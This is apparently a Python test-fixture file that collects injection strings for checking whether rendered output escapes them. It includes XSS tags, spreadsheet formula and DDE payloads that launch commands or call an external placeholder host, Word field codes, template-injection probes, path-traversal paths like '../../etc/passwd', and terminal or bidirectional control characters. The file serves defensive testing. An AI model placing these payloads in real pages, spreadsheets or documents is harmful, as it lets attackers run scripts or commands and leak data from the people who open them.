"""Some hundred texts that would be something else than text to a browser, a spreadsheet, Word, a template or a screen.

The lists of each kind are literal; `PAYLOADS` adds mixtures of two kinds, with a fixed seed: always the same ones.
"""

import random

STRANGER = "https://wmo-stranger.invalid"  # a host that does not exist: a request to it is a leak

SCRIPT = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    f"<script src={STRANGER}/a.js></script>",
    "<img src=x onerror=alert(1)>",
    f'"><img src="{STRANGER}/a.png">',
    f"' onmouseover='alert(1)' style='background:url({STRANGER}/b)",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    f"<svg><image href='{STRANGER}/c.svg'/></svg>",
    "<math><mtext></mtext><a xlink:href=javascript:alert(1)>x</math>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    f"<iframe src='{STRANGER}'></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    f"<link rel=stylesheet href={STRANGER}/d.css>",
    f"<style>@import '{STRANGER}/e.css';</style>",
    f"<form action={STRANGER}><input autofocus onfocus=alert(1)></form>",
    f"<meta http-equiv=refresh content='0;url={STRANGER}'>",
    f"<base href={STRANGER}>",
    "<!-- weg --><plaintext>",
    "<![CDATA[<x>]]>",
    "</td></tr></table><h1>Kop</h1>",
    "</title><textarea>",
    "</style></details></figure>",
    "javascript:alert(1)",
    "R&D <5 jaar > 3 & \"zo\" 'ook'",
]
ENTITIES = [
    "&lt;b&gt;",
    "&amp;lt;",
    "&#60;b&#62;",
    "&#x3c;b&#x3e;",
    "&nbsp;x&copy",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]
LINKS = [
    f"[klik]({STRANGER})",
    f"![beeld]({STRANGER}/f.png)",
    f"<{STRANGER}>",
    f"{STRANGER}/kaal",
    "mailto:x",
    "**vet** _schuin_ `code` # kop",
    "| a | b |",
    "\\\\wmo-stranger\\deel\\g.png",
]
PLOTLY = [
    "<b>vet</b>",
    "<i>a</i><br>b",
    f"<a href='{STRANGER}'>klik</a>",
    "<a href='javascript:alert(1)'>klik</a>",
    "<sup>2</sup><sub>3</sub><em>x</em>",
    "<span style='font-size:99px;color:red'>groot</span>",
    "<extra></extra>%{customdata}",
    "%{x}",
    "%{text}<extra>weg</extra>",
]
MATHS = [
    "$x^2$",
    "$$\\frac{1}{2}$$",
    "\\(x_1\\)",
    "\\[y\\]",
    "\\begin{align}a\\end{align}",
    f"$\\href{{{STRANGER}}}{{x}}$",
    "kost $5 en $6",
    "\\$ x \\$",
]
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
    "＋1",
    "－1+1",
    "＠SUM(1)",
    f'=HYPERLINK("{STRANGER}";"klik")',
    f'=WEBSERVICE("{STRANGER}")',
    "=cmd|' /C calc'!A0",
    '+DDE("cmd";"/C calc";"x")',
    "@'x'",
    "'=1+1",
    ";=1+1",
    '";=1+1;"',
    "\u00a0=1+1",
    "{=1+1}",
]
WORD = ["{ INCLUDETEXT x }", f'{{HYPERLINK "{STRANGER}"}}', "DDEAUTO c:\\\\windows", "<w:t>x</w:t>", "]]></w:t>"]
TEMPLATES = [
    "{{ 7*7 }}",
    "{% for x in y %}",
    "{# weg #}",
    "{0}",
    "{x.__class__}",
    "{title!r}",
    "%s %(x)s %n",
    "${7*7}",
    "<%= 7*7 %>",
    "[bold]vet[/bold]",
    "[/]",
    "[link=file:///etc/hosts]x[/link]",
    ":warning:",
]
PATHS = [
    "../../etc/passwd",
    "..\\..\\x",
    "/etc/passwd",
    "C:\\con",
    "con",
    "NUL.txt",
    "aux",
    "a:b*c?d|e",
    "~/x",
    ".verborgen",
    "x" * 300,
    "naam. ",
    "-rf",
]
STEERING = [
    "\x1b[2Jweg",
    "\x1b]0;titel\x07x",
    "\x1b]8;;file:///etc\x1b\\klik\x1b]8;;\x1b\\",
    "\x9b31mrood",
    "a\x08\x08b",
    "a\rb",
    "a\u202eb",
    "\u2066a\u2069",
    "a\u200bb\u2060c",
    "a\u0301\u0302\u0303",
    "a\x7fb\x01c",
    "ĳ Ĳ",
]
LONG = ["W" * 400, "lang " * 200, "ы" * 200]

KINDS = [SCRIPT, ENTITIES, LINKS, PLOTLY, MATHS, FORMULAS, WORD, TEMPLATES, PATHS, STEERING, LONG]


def mixed(count: int, seed: int = 7) -> list[str]:
    """Texts of two kinds in one."""
    chance = random.Random(seed)
    found = []
    for _ in range(count):
        one, other = chance.sample(KINDS[:-1], 2)
        found.append(f"{chance.choice(one)} {chance.choice(other)}")
    return found


PAYLOADS = [text for kind in KINDS for text in kind] + mixed(12)
